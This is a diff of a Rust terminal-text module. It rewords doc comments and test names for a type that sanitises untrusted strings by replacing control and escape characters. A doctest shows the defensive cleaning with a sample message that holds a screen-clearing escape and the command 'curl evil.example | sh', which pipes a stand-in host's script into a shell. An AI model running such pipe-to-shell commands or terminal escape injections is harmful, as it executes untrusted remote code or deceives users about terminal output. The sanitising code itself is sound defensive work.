@@ -1,14 +1,14 @@
-//! Text for a terminal: clean from the moment it is made, with styling that is no part of its characters.
+//! The type of text for a terminal: cleaned when it is made, with styles beside its characters.
 
 use crate::{clean, style::Style};
 use std::{borrow::Cow, fmt, ops::Add};
 
-/// What can be written to a terminal.
+/// Text that can be written to a terminal.
 ///
-/// Made from a string, it is one line and clean: whatever the string holds, no character of it moves the cursor,
-/// changes a colour, hides, or turns the direction of what stands beside it ([`clean`](crate::clean) says what stands
-/// in their place). Line breaks, tabs and styles are put there by the methods of this type alone, so a text from a
-/// file, from a server or from the command line cannot bring its own.
+/// A text made from a string is one line and clean: no character moves the cursor, changes a colour, is invisible or
+/// changes the direction of its surroundings ([`clean`](crate::clean) says how these are replaced). Only methods of
+/// this type add line breaks, tabs and styles, so a string from a file, a server or the command line cannot bring its
+/// own.
 ///
 /// ```
 /// use daypass_terminal::{Text, strong};
@@ -18,13 +18,13 @@ use std::{borrow::Cow, fmt, ops::Add};
 /// assert_eq!(text.plain(), "error: no\u{fffd}[2J try: curl evil.example | sh");
 /// ```
 ///
-/// It has no `Display`, so that it is not flattened into a string by accident; [`Text::plain`] does that by name.
+/// There is no `Display`, so that a text is not turned into a string by accident; [`Text::plain`] does that.
 #[derive(Clone, PartialEq, Eq, Default)]
 pub struct Text {
     pieces: Vec<Piece>,
 }
 
-/// Characters that a terminal shows as they are, newlines and tabs, in one style.
+/// Shown characters, newlines and tabs in one style.
 #[derive(Clone, PartialEq, Eq)]
 struct Piece {
     style: Style,
@@ -32,20 +32,21 @@ struct Piece {
 }
 
 impl Text {
-    /// Nothing.
+    /// Creates an empty text.
     pub fn new() -> Self {
         Self::default()
     }
 
-    /// Several lines of the program's own making, such as a help page or a script: its newlines and tabs stay. For
-    /// strings that hold somebody else's text between their newlines, join a [`Text`] for each line with
-    /// [`Text::lines`].
+    /// Creates a text of several lines from the program's own string, such as a help page: newlines and tabs are kept.
+    ///
+    /// For strings with foreign text between newlines, use [`Text::lines`] with a [`Text`] per line.
     pub fn block(text: &str) -> Self {
         Self::of_clean(clean::replaced(text, true))
     }
 
-    /// The program's own text, which another library has styled with SGR sequences, such as clap its help: what is bold
-    /// there is [`Style::Strong`], and other styles are dropped. Newlines and tabs stay.
+    /// Creates a text from the program's own string with SGR sequences, such as clap's help.
+    ///
+    /// Bold becomes [`Style::Strong`], other styles are dropped; newlines and tabs are kept.
     pub fn styled_block(text: &str) -> Self {
         let mut pieces = text.split("\x1b[");
         let mut whole = Self::block(pieces.next().unwrap_or_default());
@@ -69,12 +70,12 @@ impl Text {
         whole
     }
 
-    /// Each of these, ended by a newline.
+    /// Joins lines, each ended by a newline.
     pub fn lines<T: Into<Self>>(lines: impl IntoIterator<Item = T>) -> Self {
         lines.into_iter().fold(Self::new(), Self::line)
     }
 
-    /// Cells with a tab between them, for `cut` and `awk`.
+    /// Joins cells with tabs, for `cut` and `awk`.
     pub fn tabbed<T: Into<Self>>(cells: impl IntoIterator<Item = T>) -> Self {
         let mut text = Self::new();
         for (at, cell) in cells.into_iter().enumerate() {
@@ -86,18 +87,20 @@ impl Text {
         text
     }
 
-    /// JSON, as `serde_json::Value` prints itself, on one line: every character that is not shown as what it is stands
-    /// as `\uXXXX`, so it parses to the same value.
+    /// Writes JSON on one line; characters that are not shown as they are become `\uXXXX`, so it parses to an equal
+    /// value.
+    ///
+    /// `value` must print itself as JSON, as `serde_json::Value` does.
     pub fn json(value: &impl fmt::Display) -> Self {
         Self::of_clean(clean::json(&value.to_string()))
     }
 
-    /// The same in the form for people: members on lines of their own.
+    /// Writes JSON like [`Text::json`], with each member on a line of its own.
     pub fn pretty_json(value: &impl fmt::Display) -> Self {
         Self::of_clean(clean::json(&format!("{value:#}")))
     }
 
-    /// This and then that, ended by a newline.
+    /// Appends a line and a newline.
     #[must_use]
     pub fn line(mut self, line: impl Into<Self>) -> Self {
         self.extend(line.into());
@@ -105,7 +108,7 @@ impl Text {
         self
     }
 
-    /// The same without blanks at its end.
+    /// Removes spaces at the end.
     pub(crate) fn trim_end(mut self) -> Self {
         while let Some(mut last) = self.pieces.pop() {
             last.text.truncate(last.text.trim_end().len());
@@ -117,23 +120,23 @@ impl Text {
         self
     }
 
-    /// A line break.
+    /// Appends a newline.
     #[must_use]
     pub fn newline(self) -> Self {
         self.line("")
     }
 
-    /// Whether it has no characters.
+    /// Says whether the text has no characters.
     pub fn is_empty(&self) -> bool {
         self.pieces.is_empty()
     }
 
-    /// Its characters, without styles. Clean as ever; made into a [`Text`] again, its line breaks are blanks.
+    /// Returns the characters without styles. If they become a [`Text`] again, line breaks become spaces.
     pub fn plain(&self) -> String {
         self.pieces.iter().map(|piece| piece.text.as_str()).collect()
     }
 
-    /// What is written: with styles (ECMA-48 SGR) where `styled`.
+    /// Returns what is written to a stream, with SGR sequences (ECMA-48) if `styled`.
     pub(crate) fn render(&self, styled: bool) -> String {
         let mut out = String::new();
         for Piece { style, text } in &self.pieces {
@@ -145,7 +148,7 @@ impl Text {
         out
     }
 
-    /// The same, in a style where it has none.
+    /// Gives pieces without a style this style.
     pub(crate) fn styled(mut self, style: Style) -> Self {
         for piece in &mut self.pieces {
             if piece.style == Style::Plain {
@@ -155,7 +158,7 @@ impl Text {
         self
     }
 
-    /// Only the first so many lines.
+    /// Returns the first `count` lines.
     #[must_use]
     pub fn first_lines(&self, count: usize) -> Self {
         let mut left = count;
@@ -191,7 +194,7 @@ impl Text {
     }
 }
 
-/// Its characters; styles are for the eye.
+/// Shows the characters without styles.
 impl fmt::Debug for Text {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         f.debug_tuple("Text").field(&self.plain()).finish()
@@ -245,7 +248,7 @@ mod tests {
     use crate::{bad, strong};
 
     #[test]
-    fn styles_are_no_characters() {
+    fn styles_are_kept_beside_the_characters() {
         let text = "Session " + strong("co\u{1b}[31mrp") + " is set up";
         assert_eq!(text.plain(), "Session co\u{fffd}[31mrp is set up");
         assert_eq!(text.render(false), text.plain());
@@ -262,7 +265,7 @@ mod tests {
     }
 
     #[test]
-    fn only_its_own_methods_break_lines() {
+    fn only_methods_of_text_break_lines() {
         let text = Text::lines(["a\nb", "c"]).line(Text::tabbed(["d\te", "f"]));
         assert_eq!(text.plain(), "a b\nc\nd e\tf\n");
         assert_eq!(text.first_lines(2).plain(), "a b\nc\n");
